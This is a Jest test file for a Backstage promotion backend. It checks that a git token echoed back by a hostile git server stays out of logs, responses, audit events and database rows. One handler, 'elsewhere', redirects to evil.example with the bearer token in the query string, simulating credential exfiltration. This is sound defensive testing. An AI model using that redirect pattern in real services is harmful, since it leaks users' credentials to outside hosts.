import { IncomingMessage, ServerResponse } from 'node:http';
import { mockServices, TestDatabases } from '@backstage/backend-test-utils';
import { expectNoSecret } from '../__testUtils__/expectNoSecret';
import { rememberingLogger } from '../__testUtils__/rememberingLogger';
import { startGitProxy } from './__testUtils__/gitProxy';
import { startPromotionBackend } from './__testUtils__/simulatedBackend';
import { startShop } from './__testUtils__/simulatedShop';

jest.setTimeout(90_000);

const echo = ({ headers }: IncomingMessage) =>
  `${JSON.stringify(headers)} ${headers.authorization} ${headers.authorization
    ?.split(' ')
    .pop()}`;
const told =
  (status: number) => (request: IncomingMessage, r: ServerResponse) =>
    r
      .writeHead(status, { 'content-type': 'application/json' })
      .end(JSON.stringify({ message: `you sent ${echo(request)}` }));
const page = (request: IncomingMessage, r: ServerResponse) =>
  r.writeHead(502).end(`<html>${echo(request)}</html>`);
const elsewhere = (request: IncomingMessage, r: ServerResponse) =>
  r
    .writeHead(302, {
      location: `https://evil.example/?token=${request.headers.authorization
        ?.split(' ')
        .pop()}`,
    })
    .end();
const cut = (request: IncomingMessage) => request.socket.destroy();

describe('the token of a git host that tells it again', () => {
  const databases = TestDatabases.create({ ids: ['SQLITE_3'] });
  const stops: Array<() => Promise<unknown>> = [];
  afterAll(async () => {
    for (const stop of stops.splice(0).reverse()) await stop();
  });

  it('is in no log, answer, audit event, notification, signal, event or row, whether it fails or not', async () => {
    const shop = await startShop();
    stops.push(() => shop.sim.close());
    const trouble: {
      answer?: (request: IncomingMessage, response: ServerResponse) => unknown;
      methods?: RegExp;
    } = {};
    let echoed = 0;
    const proxy = await startGitProxy(
      shop.sim.git.url,
      () => {},
      (request, response) => {
        if (!trouble.answer || !trouble.methods?.test(request.method ?? ''))
          return false;
        if (request.headers.authorization) echoed += 1;
        trouble.answer(request, response);
        return true;
      },
    );
    stops.push(proxy.close);
    const { said, factory } = rememberingLogger();
    const knex = await databases.init('SQLITE_3');
    const backend = await startPromotionBackend(shop, { gitUrl: proxy.url }, [
      mockServices.database.factory({ knex }),
      factory,
    ]);
    stops.push(backend.stop);
    const { client, told: heard } = backend;
    await client.plan();

    const asked = {
      entityRef: 'component:default/checkout',
      environment: 'staging',
    };
    const answers: unknown[] = [];
    // Nothing can be read: there is no plan, and no promotion.
    trouble.methods = /./;
    for (const answer of [
      told(401),
      told(404),
      told(422),
      told(500),
      page,
      elsewhere,
      cut,
    ]) {
      trouble.answer = answer;
      const plan = await client.call('/plans', asked);
      expect(plan.status).not.toBe(200);
      answers.push(plan, await client.call('/plans/rendered', asked));
    }
    // Nothing can be written: what became of the promotion is stored and told.
    trouble.methods = /POST|PUT|PATCH|DELETE/;
    for (const [index, answer] of [told(403), told(422), elsewhere].entries()) {
      trouble.answer = answer;
      const created = await client.promote(`refused-${index}`);
      answers.push(created, await client.end(created.body.id));
    }
    trouble.answer = undefined;
    const { body } = await client.promote('done');
    const done = await client.end(body.id);
    expect(done.state).toBe('succeeded');
    answers.push(done, await client.call('/promotions'));

    const tables: Array<{ name: string }> = await knex('sqlite_master')
      .where({ type: 'table' })
      .select('name');
    const rows = await Promise.all(
      tables.map(async ({ name }) => [name, await knex(name).select()]),
    );
    // What is looked through is what there is.
    expect(echoed).toBeGreaterThan(10);
    for (const place of [answers, rows, heard.audit])
      expect(JSON.stringify(place)).toContain('you sent');
    for (const list of Object.values(heard)) expect(list).not.toEqual([]);
    expectNoSecret([shop.sim.git.tokens.backstage, shop.sim.tokens.backstage], {
      answers,
      rows,
      said,
      ...heard,
    });
  });
});
